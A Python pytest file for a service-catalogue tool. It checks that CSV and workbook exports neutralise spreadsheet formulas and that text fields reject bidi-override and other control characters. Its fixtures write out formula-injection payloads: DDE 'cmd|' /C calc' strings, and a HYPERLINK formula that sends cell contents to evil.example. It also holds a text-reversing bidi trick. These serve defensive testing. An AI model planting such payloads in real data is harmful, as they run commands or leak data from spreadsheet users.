"""Issue 19, points 4 and 8: open data and workbooks hold text as text; text fields refuse hidden
control characters and keep one kind of line break, whatever surface the text came from.

Workbooks are made with openpyxl and saved by LibreOffice (headless), and go through the real
`guides export` / `guides import` / `guides build` / `guides check` commands."""
from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from conftest import guides
from generator.opendata import csv_text
from test_workbook import CELL_ERROR, cell, content_bytes, row_of, soffice

VILLAGE = "stations/370304001/370304001200.yaml"
ITEM = "items/LN-001.yaml"

# text an administrator (or someone who gets a record edited) could write, each a live formula
# in Excel or LibreOffice if written as is
FORMULAS = {
    "address": "=HYPERLINK(\"https://evil.example/?\"&A1,\"点此查看\")",
    "complaint_box": "=cmd|' /C calc'!A0",
    "holiday_note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "staff_role": "-2+3+cmd|' /C calc'!A0",
    "staff_window": "+1+1",
    "error_code": "#N/A",
}


def put(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def q(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)  # a YAML double-quoted scalar


@pytest.fixture
def formulas(mini) -> Path:
    st = mini / VILLAGE
    put(st, "address: 博山区城东街道安上村党群服务中心一楼", f"address: {q(FORMULAS['address'])}")
    put(st, "complaint_box: 大厅入口右侧", f"complaint_box: {q(FORMULAS['complaint_box'])}")
    put(st, "holiday_note: 法定节假日休息", f"holiday_note: {q(FORMULAS['holiday_note'])}")
    put(st, "role: 帮办代办员, window: 帮办代办窗口",
        f"role: {q(FORMULAS['staff_role'])}, window: {q(FORMULAS['staff_window'])}")
    put(mini / ITEM, "notes: 白底", f"notes: {q(FORMULAS['error_code'])}")
    r = guides("check", "--content", mini)
    assert r.returncode == 0, r.stderr
    return mini


# ---------------------------------------------------------------- 4. open data


def test_csv_text_follows_owasp():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_text(start + "1+1") == "'" + start + "1+1"
    assert csv_text("0533-4100001") == "0533-4100001" and csv_text("安上村") == "安上村"
    assert csv_text(-3) == -3 and csv_text(12) == 12  # numbers stay numbers
    assert csv_text("'=already quoted") == "'=already quoted"


def test_open_data_csv_neutralises_formulas_json_unchanged(formulas, tmp_path):
    site = tmp_path / "site"
    r = guides("build", "--content", formulas, "--out", site)
    assert r.returncode == 0, r.stderr
    raw = (site / "data/stations.csv").read_text("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw)))
    row = next(r for r in rows if r["村（社区）区划代码"] == "370304001200")
    assert row["地址"] == "'" + FORMULAS["address"]
    assert row["投诉箱位置"] == "'" + FORMULAS["complaint_box"]
    assert row["办公时间（节假日安排）"] == "'" + FORMULAS["holiday_note"]
    # no cell of either file begins with a formula character, in any row
    for name in ("stations.csv", "items.csv"):
        for line in csv.reader(io.StringIO((site / "data" / name).read_text("utf-8-sig"))):
            assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in line), line
    assert '"\'=cmd|\' /C calc\'!A0"' in raw  # quoted, as OWASP's guidance also says
    # JSON keeps the values exactly
    one = json.loads((site / "data/stations/370304001200.json").read_text("utf-8"))
    assert one["address"] == FORMULAS["address"] and one["complaint_box"] == FORMULAS["complaint_box"]
    assert one["staff"][1]["role"] == FORMULAS["staff_role"]
    catalog = json.loads((site / "data/catalog.json").read_text("utf-8"))
    assert any(m.get("notes") == "#N/A" for it in catalog["items"] for m in it["materials"])


def test_libreoffice_opens_the_csv_as_text(formulas, tmp_path):
    """The real spreadsheet: LibreOffice Calc, opening the published CSV, makes no formula of
    it (while the same text unneutralised becomes one: the control row)."""
    site = tmp_path / "site"
    assert guides("build", "--content", formulas, "--out", site).returncode == 0
    published = tmp_path / "stations.csv"
    published.write_bytes((site / "data/stations.csv").read_bytes())
    control = tmp_path / "control.csv"
    control.write_text('"地址"\r\n"=1+1"\r\n', encoding="utf-8-sig")
    out = tmp_path / "lo"
    for src in (published, control):
        r = subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
                            "--norestore", "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(out),
                            str(src)], capture_output=True, text=True, timeout=300)
        assert r.returncode == 0, r.stderr
    assert openpyxl.load_workbook(out / "control.xlsx").active["A2"].data_type == "f"  # LibreOffice does evaluate
    ws = openpyxl.load_workbook(out / "stations.xlsx").active
    formulas_found = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas_found == []
    texts = {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert "'" + FORMULAS["address"] in texts and "'" + FORMULAS["complaint_box"] in texts


# ------------------------------------------------------------------ 4. exports


def sheet_xml_formulas(book: Path) -> list[str]:
    with zipfile.ZipFile(book) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


def test_export_writes_text_as_text_and_imports_back_unchanged(formulas, tmp_path):
    book = tmp_path / "catalogue.xlsx"
    r = guides("export", book, "--content", formulas)
    assert r.returncode == 0, r.stderr
    assert sheet_xml_formulas(book) == []  # not one formula cell in the file
    wb = openpyxl.load_workbook(book)
    st = wb["服务站"]
    r2 = row_of(st, "370304001200")
    for header, key in (("地址", "address"), ("投诉箱位置", "complaint_box"), ("办公时间（节假日安排）", "holiday_note")):
        c = cell(st, r2, header)
        assert c.value == FORMULAS[key] and c.data_type == "s", (header, c.value, c.data_type)
    notes = [c for row in wb["申请材料"].iter_rows() for c in row if c.value == "#N/A"]
    assert notes and all(c.data_type == "s" for c in notes)  # text, not Excel's error value
    before = content_bytes(formulas)
    r = guides("import", book, "--content", formulas)
    assert r.returncode == 0, r.stderr
    assert "更新 0 个文件，新增 0 个" in r.stdout
    assert content_bytes(formulas) == before
    # the same workbook opened and saved by LibreOffice Calc: still text, still no change
    saved = soffice(book, "xlsx", tmp_path / "lo", tmp_path / "profile")
    assert sheet_xml_formulas(saved) == []
    r = guides("import", saved, "--content", formulas)
    assert r.returncode == 0, r.stderr
    assert "更新 0 个文件，新增 0 个" in r.stdout
    assert content_bytes(formulas) == before


# -------------------------------------------------------- 8. control characters

CONTROLS = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
            "\u200f", "\x07", "\x1b", "\t", "\x9b", "\ufeff"]


@pytest.mark.parametrize("char", CONTROLS, ids=[f"U+{ord(c):04X}" for c in CONTROLS])
def test_yaml_text_refuses_control_characters(mini, char):
    escaped = f"\\u{ord(char):04x}"
    put(mini / VILLAGE, "address: 博山区城东街道安上村党群服务中心一楼", f'address: "博山区{escaped}城东街道"')
    put(mini / VILLAGE, "name: 李建国", f'name: "李{escaped}建国"')
    put(mini / ITEM, "  - 年满60周岁", f'  - "{escaped}"\n  - 年满60周岁')
    r = guides("check", "--content", mini)
    assert r.returncode == 1 and "Traceback" not in r.stderr
    code = f"U+{ord(char):04X}"
    expected = [(VILLAGE, 5, "地址", "第 4 个字符处"),
                (VILLAGE, 18, "工作人员[2].姓名", "第 2 个字符处"),
                (ITEM, 10, "受理条件", "第 1 项")]
    for path, line, field, where in expected:
        prefix = f"{mini / path}:{line}: {field}: "
        hits = [l for l in r.stderr.splitlines() if l.startswith(prefix) and code in l and where in l]
        assert hits, f"{prefix}… {code}\n{r.stderr}"


def test_workbook_text_refuses_bidi_override(mini, tmp_path):
    book = tmp_path / "mini.xlsx"
    assert guides("export", book, "--content", mini).returncode == 0
    wb = openpyxl.load_workbook(book)
    st = wb["服务站"]
    address = cell(st, row_of(st, "370304001200"), "地址")
    address.value = "博山区城东街道安上村\u202e楼一心中务服群党"  # shows as "…党群服务中心一楼"
    staff = wb["工作人员"]
    name = cell(staff, 2, "姓名")
    name.value = "张\u2066秀英"
    wb.save(book)
    before = content_bytes(mini)
    r = guides("import", book, "--content", mini)
    assert r.returncode == 1 and "Traceback" not in r.stderr
    assert content_bytes(mini) == before
    errors = [CELL_ERROR.match(l) for l in r.stderr.strip().splitlines()[:-1]]
    assert all(errors), r.stderr
    found = {(m["sheet"], m["cell"], m["field"]): m["msg"] for m in errors}
    assert "U+202E" in found[("服务站", address.coordinate, "地址")]
    assert "U+2066" in found[("工作人员", name.coordinate, "工作人员[1].姓名")]


SEPARATORS = {"NEL": "\x85", "LS": "\u2028", "PS": "\u2029", "CRLF": "\r\n", "CR": "\r"}


def test_line_separators_are_normalised_so_reimport_changes_nothing(mini, tmp_path):
    book = tmp_path / "mini.xlsx"
    assert guides("export", book, "--content", mini).returncode == 0
    wb = openpyxl.load_workbook(book)
    items = wb["事项"]
    r = row_of(items, "LN-001")
    cond = cell(items, r, "受理条件")
    cond.value = "第一条" + "第二条".join(SEPARATORS.values()) + "第六条"  # 6 values, 5 kinds of line break
    aliases = cell(items, r, "俗称（搜索用）")
    aliases.value = "老年证\x85优待证"
    steps = wb["办理流程"]
    detail = cell(steps, row_of(steps, "LN-001"), "办理说明")
    detail.value = "本人或家属持材料到服务站申请。\u2028服务站当场审核。"  # a paragraph
    wb.save(book)
    r1 = guides("import", book, "--content", mini)
    assert r1.returncode == 0, r1.stderr
    assert "更新 1 个文件" in r1.stdout
    text = (mini / ITEM).read_text(encoding="utf-8")
    assert not re.search("[\r\x85\u2028\u2029]", text)
    from generator.validate import read_catalogue

    cat, problems = read_catalogue(mini)
    assert cat is not None, problems
    item = cat.items["LN-001"]
    assert list(item.conditions) == ["第一条", "第二条", "第二条", "第二条", "第二条", "第六条"]
    assert list(item.aliases) == ["老年证", "优待证"]
    assert item.process[0].detail == "本人或家属持材料到服务站申请。\n服务站当场审核。"
    after = content_bytes(mini)
    # the same workbook again: nothing to change
    r2 = guides("import", book, "--content", mini)
    assert r2.returncode == 0 and "更新 0 个文件，新增 0 个" in r2.stdout, r2.stdout + r2.stderr
    assert content_bytes(mini) == after
    # and after LibreOffice Calc opened and saved it
    saved = soffice(book, "xlsx", tmp_path / "lo", tmp_path / "profile")
    r3 = guides("import", saved, "--content", mini)
    assert r3.returncode == 0 and "更新 0 个文件，新增 0 个" in r3.stdout, r3.stdout + r3.stderr
    assert content_bytes(mini) == after
